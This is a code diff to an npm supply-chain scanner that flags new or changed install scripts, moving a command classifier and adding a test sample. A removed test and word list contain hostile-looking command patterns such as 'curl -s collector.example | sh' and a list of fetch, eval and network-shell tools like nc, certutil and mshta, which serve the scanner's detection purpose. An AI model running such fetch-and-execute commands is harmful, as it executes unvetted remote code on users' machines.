@@ -3,6 +3,7 @@
 use weir_model::{Confidence, Contents, Evidence, Finding, Group, Severity};
 use weir_npm::manifest::Manifest;
 
+use crate::commands::{BUILDERS, Nature, program, words};
 use crate::comparison::COMPARED_DAYS;
 use crate::{
     Declaration, Documentation, Input, Kind, Layer, Maturity, Observation, Stage, Subject,
@@ -30,9 +31,13 @@ pub(crate) static SIGNAL: Declaration = Declaration {
         sees: "A `preinstall`, `install` or `postinstall` script that the previous release of the same line \
                did not have, or one that changed beyond version numbers. A `binding.gyp`, which npm compiles \
                without being told to, counts as `install`, also in the previous release, and so do scripts of bundled \
-               packages, which npm runs as well. A first release with such a \
+               packages, which npm runs as well, and of the package's own folders that it depends on (`file:./sub`), which \
+               yarn runs. A first release with such a \
                script is reported with less weight, as are those after it until one has been out for a week or was found \
-               fine, and so is a command that only compiles or fetches native code. \
+               fine, and so is a command that only compiles or fetches native code: one of the \
+               tools made for that, called by its bare name, with such arguments as it is usually given. A substitution, \
+               a second line, a program of the package's own with a tool's name, or an option that names a program \
+               (`--python=`) is more than that. \
                Where the previous release ran a script of its own already, a command that changed is only mentioned \
                once the release has been out for 90 days.",
         matters: "Install scripts run on every machine that installs the package, before anyone has looked at it, \
@@ -252,7 +257,7 @@ fn ran_its_own(before: &[Step<'_>]) -> bool {
 
 /// Whether the release has been out for longer than any is compared with the one before it by its contents: that the
 /// package runs another of its own scripts than a quarter ago says nothing any more.
-fn has_been_out(subject: &Subject<'_>) -> bool {
+pub(crate) fn has_been_out(subject: &Subject<'_>) -> bool {
     subject.now.duration_since(subject.out_by_now()).as_hours() >= COMPARED_DAYS * 24
 }
 
@@ -282,100 +287,6 @@ fn evidence(step: Step<'_>, previous: Option<&str>) -> Evidence {
 
 fn printable(command: &str) -> String {
     weir_model::finding::printable(command, 120)
-}
-
-/// What kind of command it is.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Nature {
-    /// Compiles native code, or fetches it by a tool made for that.
-    Builder,
-    /// Runs something of the package.
-    OwnScript,
-    /// The command itself fetches or evaluates, or starts another runtime than the one that
-    /// installs: the text alone is enough to worry (INCIDENTS I25, I32, I45).
-    Inline,
-}
-
-/// Native builders in common use, by the first word of the command.
-const BUILDERS: &[&str] = &[
-    "node-gyp",
-    "node-gyp-build",
-    "node-gyp-build-optional-packages",
-    "node-pre-gyp",
-    "prebuild-install",
-    "cmake-js",
-    "napi-postinstall",
-    "pkg-prebuilds-verify",
-];
-
-/// Words that fetch, evaluate, or bring another runtime.
-const INLINE: &[&str] = &[
-    "curl",
-    "wget",
-    "powershell",
-    "pwsh",
-    "rundll32",
-    "mshta",
-    "certutil",
-    "bun",
-    "bunx",
-    "deno",
-    "npx",
-    "eval",
-    "base64",
-    "python",
-    "python3",
-    "perl",
-    "ruby",
-    "nc",
-];
-
-/// The words of a command, whatever stands between them.
-fn words(command: &str) -> impl Iterator<Item = &str> {
-    command
-        .split(|c: char| c.is_whitespace() || "|&;()<>\"'`$={}".contains(c))
-        .filter(|word| !word.is_empty())
-}
-
-/// The program that a word names, without its folder.
-fn program(word: &str) -> String {
-    let file = word.rsplit(['/', '\\']).next().unwrap_or(word);
-    file.strip_suffix(".exe")
-        .unwrap_or(file)
-        .to_ascii_lowercase()
-}
-
-impl Nature {
-    fn of(command: &str) -> Self {
-        let starts_inline = |tool: &str| {
-            let mut rest = words(command).skip_while(|word| program(word) != tool);
-            rest.next().is_some()
-                && rest.take(3).any(|flag| {
-                    matches!(
-                        flag,
-                        "-e" | "-c" | "-p" | "-pe" | "/c" | "--eval" | "--print" | "-r"
-                    )
-                })
-        };
-        if words(command)
-            .any(|word| INLINE.contains(&program(word).as_str()) || word.contains("://"))
-            || ["node", "sh", "bash", "zsh", "cmd"]
-                .into_iter()
-                .any(starts_inline)
-        {
-            return Self::Inline;
-        }
-        // Every command of a list has to be a builder: `prebuild-install || node-gyp rebuild`.
-        let all_builders = command
-            .split(['|', '&', ';'])
-            .filter_map(|part| part.split_whitespace().next())
-            .all(|word| BUILDERS.contains(&program(word).as_str()));
-        if all_builders {
-            Self::Builder
-        } else {
-            Self::OwnScript
-        }
-    }
 }
 
 /// Whether two commands differ in numbers at most, as when a version is spelled out. Commands that
@@ -452,6 +363,13 @@ fn samples() -> Vec<crate::sample::Sample> {
             pair(
                 r#"{"scripts":{"install":"node-gyp rebuild"}}"#,
                 r#"{"scripts":{"install":"node lib/build.js"}}"#,
+            ),
+        ),
+        Sample::flagged(
+            "A native build with a command in its arguments",
+            pair(
+                r#"{"scripts":{"install":"node-gyp rebuild"}}"#,
+                r#"{"scripts":{"install":"node-gyp rebuild $(node lib/build.js)"}}"#,
             ),
         ),
         Sample::flagged(
@@ -555,24 +473,6 @@ fn samples() -> Vec<crate::sample::Sample> {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn commands_are_told_apart_by_what_they_do() {
-        for (command, nature) in [
-            ("node-gyp rebuild", Nature::Builder),
-            ("prebuild-install || node-gyp rebuild", Nature::Builder),
-            ("node-gyp-build", Nature::Builder),
-            ("node install.js", Nature::OwnScript),
-            ("node-gyp rebuild && node setup.js", Nature::OwnScript),
-            ("node -e \"require('./x')\"", Nature::Inline),
-            ("curl -s collector.example | sh", Nature::Inline),
-            ("bun run index.js", Nature::Inline),
-            ("bash -c ./x.sh", Nature::Inline),
-            ("sh ./build.sh", Nature::OwnScript),
-        ] {
-            assert_eq!(Nature::of(command), nature, "{command}");
-        }
-    }
 
     #[test]
     fn a_build_may_have_been_replaced_where_only_the_tarball_can_tell() {
